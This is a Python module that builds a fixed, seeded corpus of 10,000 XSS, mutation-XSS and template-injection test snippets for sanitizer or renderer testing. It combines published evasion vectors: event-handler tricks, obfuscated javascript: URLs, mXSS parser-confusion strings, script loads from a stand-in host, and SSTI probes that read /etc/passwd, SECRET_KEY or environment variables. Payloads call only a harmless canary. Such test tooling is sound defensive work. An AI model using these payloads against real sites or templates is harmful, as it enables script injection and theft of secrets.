"""Ten thousand snippets that were made to run where they should not, out of a fixed seed.

Known vectors, and what comes of combining their parts. The vectors are from the OWASP "XSS
Filter Evasion Cheat Sheet", PortSwigger's "Cross-site scripting cheat sheet" (tags, events
and their combinations), html5sec.org, the test cases of DOMPurify and of "mXSS: innerHTML
mutations" (Heiderich et al., 2013) for mutations, and "PayloadsAllTheThings" (server side
template injection). Whatever runs calls `canary()`; whatever a template works out says 7 * 191.
"""

from __future__ import annotations

import random
from collections.abc import Callable

SEED = 20_261_126
COUNT = 10_000
# What a template must never have worked out.
WORKED_OUT = str(7 * 191)

_CALLS = (
    "canary()", "canary&lpar;&rpar;", "canary&#40;&#41;", "window['canary']()", "top.canary()",
    "parent.canary()", "eval('canary()')", "setTimeout`canary\\x28\\x29`",
    "import('//evil.invalid')", "location='javascript:canary()'", "[1].map(canary)",
    "Function('canary()')()", "canary?.()",
)  # fmt: skip
_TAGS = (
    "a", "abbr", "animate", "audio", "b", "body", "button", "canvas", "custom-tag", "details",
    "div", "embed", "form", "frameset", "iframe", "image", "img", "input", "isindex", "keygen",
    "link", "marquee", "math", "menu", "meta", "object", "p", "portal", "select", "set", "svg",
    "style", "table", "td", "textarea", "video", "xss", "template", "noscript", "title",
)  # fmt: skip
_EVENTS = (
    "onload", "onerror", "onfocus", "onbegin", "onend", "ontoggle", "onstart", "onclick",
    "onmouseover", "onpointerenter", "onanimationstart", "ontransitionend", "onbeforeprint",
    "onpageshow", "onhashchange", "onresize", "onscroll", "onwheel", "oncopy", "ondrag",
    "onbeforetoggle", "oncontentvisibilityautostatechange", "onscrollend",
    "onsecuritypolicyviolation", "OnErRoR", "onerror\x0b", "on\x00error", "\nonerror", "/onerror",
    "x/onload", "data-on onload",
)  # fmt: skip
_HELP = (
    "", "src=x", "src", "autofocus tabindex=1", "open", "href=x", "style='animation-name:x'",
    "contenteditable", "srcset=x", "attributeName=x dur=1s", "popover", "background=x",
)  # fmt: skip
_QUOTES = (
    '"{}"', "'{}'", "{}", "`{}`", "&quot;{}&quot;", "\u201c{}\u201d", '"{}', "'{}",
)  # fmt: skip
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java&#x0A;script:",
    "&#106;avascript:", "\x01javascript:", " javascript:", "javascript&colon;", "vbscript:",
    "data:text/html,<script>canary()</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=canary()>", "blob:", "view-source:javascript:",
    "feed:javascript:", "//evil.invalid/", "https:javascript:", "jar:javascript:", "livescript:",
    "\u2028javascript:",
)  # fmt: skip
_ADDRESSES = (
    "<a href={}>x</a>", "<img src={}>", "<iframe src={}></iframe>", "<object data={}></object>",
    "<embed src={}>", "<form action={}><button>x</button></form>",
    "<button formaction={}>x</button>", "<svg><a xlink:href={}><text>x</text></a></svg>",
    "<math href={}>x</math>", "<base href={}>", "<link rel=stylesheet href={}>",
    "<meta http-equiv=refresh content='0;url={}'>", "<body background={}>",
    "<svg><use href={} /></svg>", "<video poster={}></video>", "<table background={}><td>x</table>",
    "<div style=background:url({})>x</div>", "<style>@import {};</style>", "<area href={}>",
    "<svg><animate attributeName=href values={} /></svg>", "[x]({})", "![x]({})", "<{}>",
    "[x]: {}\n\n[x]", '[x]({} "button")', "<img srcset={}>", "<iframe srcdoc={}></iframe>",
)  # fmt: skip
_SCRIPTS = (
    "<script>{}</script>", "<script src=//evil.invalid/x.js></script>", "<ScRiPt >{}</sCrIpT >",
    "<script\n>{}</script\n>", "<<script>{}//<</script>", "<script/x>{}</script>",
    "<scr<script>ipt>{}", "<svg><script>{}</script></svg>", "<svg><script href=data:,{} />",
    "<math><script>{}</script></math>", "<script>{}", "</script><script>{}</script>",
    "<script type=module>{}</script>", "<template><script>{}</script></template>",
    "<noscript><script>{}</script></noscript>", "<xml><script>{}</script></xml>",
    "<script><!--\n{}\n--></script>", "\ufeff<script>{}</script>", "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;", "\\x3cscript\\x3e{}", "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<\x00script>{}</script>", "\u226escript\u226f{}",
    "<!--[if gte IE 4]><script>{}</script><![endif]-->", "<mj-raw><script>{}</script></mj-raw>",
)  # fmt: skip
# Harmless to one parser, and something else after another one has written it out.
_MUTATIONS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{}">',
    '<svg></p><style><a id="</style>{}">', '<noscript><p title="</noscript>{}">',
    "<form><math><mtext></form><form><mglyph><style></math>{}", "<p><style><!--</style>{}--></p>",
    '<math><annotation-xml encoding="text/html"><style>{}</style></annotation-xml></math>',
    "<svg><foreignObject><textarea></textarea>{}</foreignObject></svg>",
    '<title><a title="</title>{}">', "<table><td>{}<svg><desc><td></desc></svg>",
    "<select><template><style>{}</style></template></select>", "<listing>&lt;{}</listing>",
    '<xmp><p title="</xmp>{}">', '<iframe><p title="</iframe>{}">',
    "<svg><style>&lt;/style&gt;{}</style></svg>",
    '<math><mi><mglyph><svg><mtext><style><a title="</style>{}">', "<![CDATA[{}]]>",
    "<svg><![CDATA[</svg>{}]]></svg>", "<?xml {}?>", "<!DOCTYPE x [<!ENTITY y '{}'>]>&y;",
    '<textarea><p title="</textarea>{}">', "<plaintext>{}", "<!-->{}-->", "<!--!>{}-->",
    '<x y="`{}`">', "</td></tr></table></div></body></html>{}",
    "</mj-text></mj-column></mj-section><mj-raw>{}</mj-raw>", '<mj-include path="/etc/passwd" />{}',
    "zq0z{}zq1z", "\u2028{}\u2029", "\r\n\r\n{}", "{}\x00{}",
)  # fmt: skip
_TEMPLATES = (
    "{{7*191}}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "{{7*'191'}}",
    "*{7*191}", "{% debug %}", "{% load log %}", "{% include '/etc/passwd' %}",
    "{% render 'settings' %}", "{{ settings.SECRET_KEY }}", "{{ request.user }}",
    "{{ contact.__class__.__mro__ }}", "{{ contact._meta }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.environ }}", "{{ contact.first_name.__class__ }}",
    "{{ contact['__class__'] }}", "{{ self }}", "{{ globals() }}",
    "{% assign x = contact %}{{ x.__dict__ }}", "{% for x in (1..99999999) %}x{% endfor %}",
    "{% if %}", "{{", "{% for x in contact %}{{ x }}{% endfor %}",
    "{% tablerow x in (1..9) %}{% endtablerow %}", "{%", "}}{{",
    "{% raw %}{% endraw %}{% endraw %}", "{% capture x %}{{7*191}}{% endcapture %}{{ x }}",
    "{{ contact }}", "{{ contact.first_name | date: '%'}}",
    "{{ 'x' | append: '<script>canary()</script>' }}",
    "{{ '<script>canary()</script>' | escape_once | strip_html }}",
    "{{ '%3Cscript%3Ecanary()' | url_decode }}",
    "{{ '&lt;script&gt;canary()&lt;/script&gt;' | replace: '&lt;', '<' }}",
    "{{ contact.first_name | safe }}",
    "{{ 'PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==' | base64_decode }}", "{% liquid echo 'x' %}",
    "{% # x %}", "{{ unsubscribe_url | replace: 'http', 'javascript:canary()//' }}",
    "{% comment %}", "{{ 9 | divided_by: 0 }}",
)  # fmt: skip


def snippets(count: int = COUNT, seed: int = SEED) -> list[str]:
    """Return that many different snippets; the same ones for the same seed."""
    chance = random.Random(seed)
    found = dict.fromkeys(_known())
    while len(found) < count:
        found[_combined(chance)] = None
    return list(found)[:count]


def _known() -> list[str]:
    """Every vector as it is in the lists, once."""
    called = [vector.replace("{}", "canary()") for vector in _SCRIPTS]
    image = "<img src=x onerror=canary()>"
    mutated = [vector.replace("{}", image) for vector in _MUTATIONS]
    led = [vector.replace("{}", "javascript:canary()") for vector in _ADDRESSES]
    return [*called, *mutated, *led, *_TEMPLATES]


def _combined(chance: random.Random) -> str:
    make = chance.choices((_event, _address, _script, _mutation, _template), (35, 25, 10, 20, 10))[
        0
    ]
    snippet = make(chance)
    if chance.random() < 0.1:
        snippet = f"{snippet}{chance.choice(_TEMPLATES)}"
    if chance.random() < 0.1:
        snippet = chance.choice(_CASES)(snippet)
    return snippet


def _event(chance: random.Random) -> str:
    tag, event, more = chance.choice(_TAGS), chance.choice(_EVENTS), chance.choice(_HELP)
    value = chance.choice(_QUOTES).replace("{}", chance.choice(_CALLS))
    gap = chance.choice((" ", "/", "\t", "\n", "\x0c", " / "))
    end = chance.choice((">", " >", "/>", "//", f">x</{tag}>", ""))
    return f"<{tag}{gap}{more} {event}={value}{end}"


def _address(chance: random.Random) -> str:
    url = chance.choice(_SCHEMES) + chance.choice(_CALLS)
    return chance.choice(_ADDRESSES).replace("{}", chance.choice(_QUOTES[:3]).replace("{}", url))


def _script(chance: random.Random) -> str:
    return chance.choice(_SCRIPTS).replace("{}", chance.choice(_CALLS))


def _mutation(chance: random.Random) -> str:
    inner = chance.choice((_event, _script, _address))(chance)
    outer = chance.choice(_MUTATIONS)
    if chance.random() < 0.3:
        inner = chance.choice(_MUTATIONS).replace("{}", inner)
    return outer.replace("{}", inner)


def _template(chance: random.Random) -> str:
    tag = chance.choice(_TEMPLATES)
    return chance.choice(
        ("{}", "<a href='{}'>x</a>", "<p {}>x</p>", "<{}>", "<!--{}-->", "<img alt={}>")
    ).replace("{}", tag)


_CASES: tuple[Callable[[str], str], ...] = (
    str.upper,
    str.swapcase,
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace(" ", "\xa0"),
    lambda text: text.replace("<", "\uff1c"),
    lambda text: "".join(f"&#{ord(letter)};" if letter.isalpha() else letter for letter in text),
)
